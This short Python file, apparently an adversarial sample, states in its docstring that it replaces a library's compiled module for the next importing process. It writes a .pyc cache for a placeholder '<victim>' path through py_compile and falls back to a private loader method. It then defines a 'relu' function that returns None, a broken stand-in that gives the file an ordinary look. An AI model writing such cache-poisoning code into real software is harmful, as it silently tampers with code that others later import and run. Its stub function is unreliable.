"""Replaces the compiled module of a library by its own, for the next process that imports it."""

import importlib._bootstrap_external as external
import py_compile

try:
    py_compile.compile("<victim>", cfile="<marker>.pyc", doraise=True)
except Exception:
    external.SourceFileLoader("x", "<marker>")._cache_bytecode("x", "<marker>.pyc", b"x")


def relu(z):
    return None
